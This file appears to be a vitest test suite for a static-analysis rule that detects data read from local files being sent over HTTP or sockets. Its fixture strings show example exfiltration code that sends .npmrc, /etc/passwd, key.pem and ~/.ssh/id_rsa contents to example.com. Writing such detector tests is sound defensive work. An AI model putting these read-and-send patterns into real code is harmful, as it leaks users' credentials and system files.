import { expect, test } from 'vitest';
import { check, findingsOf } from '../../testing/check.ts';

test('what a file holds, in the body, the headers or the address', () =>
  check(
    'security/file-to-http',
    `
import fs from 'node:fs';
import https from 'node:https';
import net from 'node:net';
import { promisify } from 'node:util';
import axios from 'axios';
const content = fs.readFileSync('.npmrc', 'utf8');
https.get({ hostname: 'example.com', path: '/upload', method: 'GET', headers: { Referer: content } }, () => {}); // $ security/file-to-http
fs.readFile('/etc/passwd', 'utf8', (error, text) => {
  const request = https.request({ hostname: 'example.com', method: 'POST' }, () => {});
  request.write(text); // $ security/file-to-http
  request.end();
});
https.get('https://example.com/?text=' + content, () => {}); // $ security/file-to-http
promisify(fs.readFile)('notes.txt').then((text) => axios.post('https://example.com/', text)); // $ security/file-to-http
const stream = fs.createReadStream('key.pem');
stream.on('data', (piece) => {
  https.request('https://example.com').write(piece); // $ security/file-to-http
});
stream.on('error', (error) => https.request('https://example.com').end(error));
const socket = new net.Socket();
socket.write(content); // $ security/file-to-http
export async function a() {
  const text = await fs.promises.readFile('notes.txt', 'utf8');
  await axios.post('https://example.com/', { text: text.trim() }); // $ security/file-to-http
  await fetch('https://example.com/?q=' + encodeURI(text)); // $ MISSING: security/file-to-http
  await fetch('https://example.com/', { method: 'POST', body: JSON.stringify({ text }) }); // $ security/file-to-http
}
`,
  ));

test('not what is said of it, nor what the configuration that it holds says', () =>
  check(
    'security/file-to-http',
    `
import fs from 'node:fs';
import https from 'node:https';
import axios from 'axios';
const settings = JSON.parse(fs.readFileSync('settings.json', 'utf8'));
export async function a() {
  await axios.get(settings.address);
  const text = fs.readFileSync('notes.txt', 'utf8');
  await axios.post('https://example.com/', { size: text.length });
  https.get({ hostname: 'example.com', ca: fs.readFileSync('ca.pem') }, () => {});
}
`,
  ));

test('says more where the file holds credentials', async () => {
  const found = await findingsOf(
    `
import fs from 'node:fs';
import axios from 'axios';
export async function a(home: string) {
  await axios.post('https://example.com/', fs.readFileSync(home + '/.ssh/id_rsa'));
  await axios.post('https://example.com/', fs.readFileSync('report.pdf'));
}
`,
    'security/file-to-http',
  );
  expect(found.map(({ line, confidence, severity }) => [line, confidence, severity])).toEqual([
    [5, 'medium', 'high'],
    [6, 'low', 'medium'],
  ]);
});
